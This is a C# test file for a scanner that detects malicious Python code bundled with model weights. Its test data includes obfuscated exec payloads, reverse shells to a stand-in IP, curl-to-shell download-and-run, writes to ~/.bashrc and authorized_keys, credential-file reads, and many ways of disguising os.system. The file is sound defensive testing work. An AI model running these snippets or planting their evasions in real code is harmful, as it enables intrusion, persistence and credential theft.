using Proofmark.Core;

namespace Proofmark.Scanning.Tests.Code;

public sealed class CodeAttackTests
{
    /// <summary>Techniques of code that is found beside weights, each with the call that must be named.</summary>
    public static TheoryData<string, string, string> Malicious => new()
    {
        { "base64 text to exec", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "exec(" },
        { "compressed and encoded", "import zlib,base64\nexec(zlib.decompress(base64.b64decode(b'eJw=')))\n", "exec(" },
        { "compiled first", "import base64 as b\nexec(compile(b.b64decode('cHJpbnQoMSk='), '<x>', 'exec'))\n", "exec(" },
        { "lambda chain", "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'abc'))\n", "exec(" },
        { "numbers to text", "exec(''.join(chr(c) for c in [112, 114]))\n", "exec(" },
        { "hex", "exec(bytes.fromhex('7072696e74283129').decode())\n", "exec(" },
        { "rot13", "import codecs\neval(codecs.decode('cevag(1)', 'rot13'))\n", "eval(" },
        { "marshalled code", "import marshal, base64\nexec(marshal.loads(base64.b64decode('4wAA')))\n", "exec(" },
        { "fetched text", "import requests\nexec(requests.get('https://198.51.100.7/p').text)\n", "exec(" },
        { "fetched by urllib", "from urllib.request import urlopen as u\nexec(u('http://198.51.100.7/p').read().decode())\n", "exec(" },
        { "pickle from text", "import pickle, base64\nx = pickle.loads(base64.b64decode('gASV'))\n", "pickle.loads(" },
        { "decoder in a function", "import base64\ndef d(s):\n    return base64.b64decode(s).decode()\nexec(d('cHJpbnQoMSk='))\n", "exec(" },
        { "in a method called later", "import base64\nclass M:\n    def forward(self, x):\n        exec(base64.b64decode('cHJpbnQoMSk='))\n", "exec(" },
        { "reverse shell by dup2", "import socket,subprocess,os\ns=socket.socket()\ns.connect(('198.51.100.7',4444))\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])\n", "os.dup2" },
        { "reverse shell by pty", "import socket, pty\ns = socket.create_connection(('198.51.100.7', 1))\npty.spawn('/bin/sh')\n", "pty.spawn" },
        { "shell one-liner", "import os\nos.system('bash -i >& /dev/tcp/198.51.100.7/4444 0>&1')\n", "os.system(" },
        { "download and run", "import subprocess as sp\nsp.run('curl -s http://198.51.100.7/a.sh | sh', shell=True)\n", "subprocess.run(" },
        { "in a list of arguments", "import subprocess\nsubprocess.Popen(['bash', '-c', 'cat </dev/tcp/198.51.100.7/1'])\n", "subprocess.Popen(" },
        { "start-up file", "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x')\n", "open(" },
        { "key of somebody else", "from pathlib import Path\n(Path.home() / '.ssh').mkdir()\nopen('~/.ssh/authorized_keys', mode='w').write('k')\n", "open(" },
        { "decorator", "import base64\n@exec\n@base64.b64decode\ndef x(): pass\nexec(base64.b64decode('eA=='))\n", "exec(" },
        { "text in text", "exec(\"import base64\\nexec(base64.b64decode('cHJpbnQoMSk='))\")\n", "exec(" },
        { "names of the interpreter by hand", "import base64\ngetattr(__builtins__, 'ex' + 'ec')(base64.b64decode('eA=='))\n", "exec(" },
        { "Fernet", "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'x'))\n", "exec(" },
    };

    /// <summary>What reaches out of the process while loading, under every disguise of a name.</summary>
    public static TheoryData<string, string, string> Suspicious => new()
    {
        { "plain", "import os\nos.system('id')\n", "os.system('id')" },
        { "from-import with another name", "from os import system as s\ns('id')\n", "os.system('id')" },
        { "import with another name", "import subprocess as torch_utils\ntorch_utils.run(['id'])\n", "subprocess.run(['id'])" },
        { "assigned", "import os\nf = os.system\nf('id')\n", "os.system('id')" },
        { "assigned, then hidden by a harmless value", "import os\nf = os.system\nif False:\n    f = print\nf('id')\n", "os.system('id')" },
        { "getattr with assembled name", "import os\ngetattr(os, 'sys' + 'tem')('id')\n", "os.system('id')" },
        { "getattr with joined name", "import os\ngetattr(os, ''.join(['sy', 'stem']))('id')\n", "os.system('id')" },
        { "getattr with reversed name", "import os\ngetattr(os, 'metsys'[::-1])('id')\n", "os.system('id')" },
        { "getattr with formatted name", "import os\nn = 'tem'\ngetattr(os, f'sys{n}')('id')\n", "os.system('id')" },
        { "getattr with escapes", "import os\ngetattr(os, '\\x73ystem')('id')\n", "os.system('id')" },
        { "__import__", "__import__('os').system('id')\n", "os.system('id')" },
        { "__import__ of assembled name", "__import__('o' + 's').popen('id')\n", "os.popen('id')" },
        { "importlib", "import importlib\nimportlib.import_module('subprocess').check_output('id')\n", "subprocess.check_output('id')" },
        { "importlib by from-import", "from importlib import import_module as i\ni('os').execv('/bin/id', [])\n", "os.execv(" },
        { "sys.modules", "import sys\nsys.modules['os'].system('id')\n", "os.system('id')" },
        { "dictionary of a module", "import os\nos.__dict__['system']('id')\n", "os.system('id')" },
        { "vars", "import os\nvars(os)['system']('id')\n", "os.system('id')" },
        { "globals", "from os import system\nglobals()['system']('id')\n", "os.system('id')" },
        { "builtins by item", "import os\n__builtins__['eval'](os.environ['X'])\n", "eval(" },
        { "builtins by dictionary", "import builtins, os\nbuiltins.__dict__['exec'](os.environ['X'])\n", "exec(" },
        { "wildcard", "from os import *\nsystem('id')\n", "os.system('id')" },
        { "letters of another width", "import os\nｅｖａｌ(os.environ['X'])\n", "eval(" },
        { "lines joined", "import \\\n  os\nos. \\\n  system('id')\n", "os.system('id')" },
        { "two statements on a line", "x = 1; import os; os.system('id')\n", "os.system('id')" },
        { "carriage returns for line ends", "import os\ros.system('id')\r", "os.system('id')" },
        { "in a formatted literal", "import os\nx = f\"{os.system('id')}\"\n", "os.system('id')" },
        { "nested formatted literals", "import os\nx = f\"{f'{os.system(\"id\")}'}\"\n", "os.system('id')" },
        { "in a default value", "import os\ndef f(x=os.system('id')):\n    pass\n", "os.system('id')" },
        { "in an annotation", "import os\nx: os.system('id') = 1\n", "os.system('id')" },
        { "in a base class", "import os\nclass A(os.popen('id').__class__):\n    pass\n", "os.popen('id')" },
        { "in a comprehension", "import os\n[os.system(c) for c in ['id']]\n", "os.system(" },
        { "over a list of functions", "import os\nfor f in [print, os.system]:\n    f('id')\n", "os.system('id')" },
        { "handed to map", "import os\nlist(map(os.system, ['id']))\n", "os.system" },
        { "handed to a thread", "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()\n", "os.system" },
        { "partial", "import os\nfrom functools import partial\npartial(os.system, 'id')()\n", "os.system" },
        { "walrus", "import os\n(f := os.system)('id')\n", "os.system('id')" },
        { "in __init__", "import os\nclass M:\n    def __init__(self):\n        os.system('id')\n", "os.system('id')" },
        { "in a function that __init__ calls", "import os\nclass M:\n    def __init__(self):\n        self.warm()\n    def warm(self):\n        os.system('id')\n", "os.system('id')" },
        { "in a function called at the end", "import os\ndef a():\n    b()\ndef b():\n    os.system('id')\na()\n", "os.system('id')" },
        { "in a function handed to a thread", "import os, threading\ndef a():\n    os.system('id')\nthreading.Thread(target=a).start()\n", "os.system('id')" },
        { "in from_pretrained", "import requests\nclass M:\n    @classmethod\n    def from_pretrained(cls, n):\n        requests.post('http://198.51.100.7', data=n)\n", "requests.post(" },
        { "attribute of a class", "import os\nclass M:\n    run = os.system\n    def __init__(self):\n        self.run('id')\n", "os.system('id')" },
        { "one-line function", "import os\ndef f(): os.system('id')\nf()\n", "os.system('id')" },
        { "behind a test that is true in imports", "import os\nif __name__ != '__main__':\n    os.system('id')\n", "os.system('id')" },
        { "socket", "import socket\nsocket.socket().connect(('198.51.100.7', 1))\n", "socket.socket()" },
        { "native library", "import ctypes\nctypes.CDLL('./libx.so')\n", "ctypes.CDLL('./libx.so')" },
        { "native library by cdll", "from ctypes import cdll\ncdll.LoadLibrary('./libx.so')\n", "cdll.LoadLibrary" },
        { "second pickle", "import torch\nclass M:\n    def __init__(self):\n        self.w = torch.load('w.bin')\n", "torch.load('w.bin')" },
        { "code of another repository", "import torch\nm = torch.hub.load('a/b', 'c')\n", "torch.hub.load(" },
        { "package installed", "import pip\npip.main(['install', 'x'])\n", "pip.main(" },
        { "secrets", "open('~/.aws/credentials').read()\n", "open(" },
        { "subclasses", "().__class__.__base__.__subclasses__()[1]\n", "__subclasses__" },
    };

    [Theory]
    [MemberData(nameof(Malicious))]
    public void CodeThatHidesWhatItRunsIsMalicious(string technique, string source, string call)
    {
        var result = Sources.Imported(source);

        result.ReasonCodes.Should().Equal(["malicious"], technique);
        var finding = result.Findings.Where(f => f.RuleId == "code.malicious").Should().NotBeEmpty().And.Subject.First();
        result.Findings.Should().Contain(f => f.RuleId == "code.malicious" && f.Call!.Contains(call, StringComparison.Ordinal));
        finding.Location.Line.Should().BePositive();
        finding.References.Should().Contain("AML.T0011.000");
    }

    [Theory]
    [MemberData(nameof(Suspicious))]
    public void CodeThatReachesOutWhileLoadingIsSuspicious(string technique, string source, string call)
    {
        var result = Sources.Imported(source);

        result.ReasonCodes.Should().Equal(["suspicious"], technique);
        result.Findings.Should().Contain(f => f.RuleId == "code.suspicious-call" && f.Call!.Contains(call, StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("# coding: unicode_escape\n#\\x0aimport os\\x0aos.system('id')\n")]
    [InlineData("# -*- coding: utf-7 -*-\nx = 1\n")]
    [InlineData("#!/usr/bin/env python3\n# vim: set fileencoding=rot13 :\n")]
    [InlineData("x = 1\0\nimport os\n")]
    public void SourceThatShowsOtherCodeToPeopleIsSuspicious(string source) =>
        Sources.Imported(source).Findings.Should().Contain(f => f.RuleId == "code.deceptive-source" && f.Severity == Severity.High);

    [Theory]
    [InlineData("import subprocess\nclass M:\n    def forward(self, x):\n        return subprocess.run(['id'])\n")]
    [InlineData("import os\nif __name__ == '__main__':\n    os.system('id')\n")]
    [InlineData("import requests\ndef load_image(url):\n    return requests.get(url, stream=True).raw\n")]
    public void WhatIsNotSeenToRunWhileLoadingIsARemarkAndNeverAPass(string source)
    {
        var result = Sources.Imported(source);

        result.Outcome.Should().Be(Outcome.NotEstablished);
        result.Findings.Should().Contain(f => f.RuleId == "code.later-call" && f.Severity == Severity.Info);
        Sources.Decisive(result).Should().BeEmpty();
    }
}
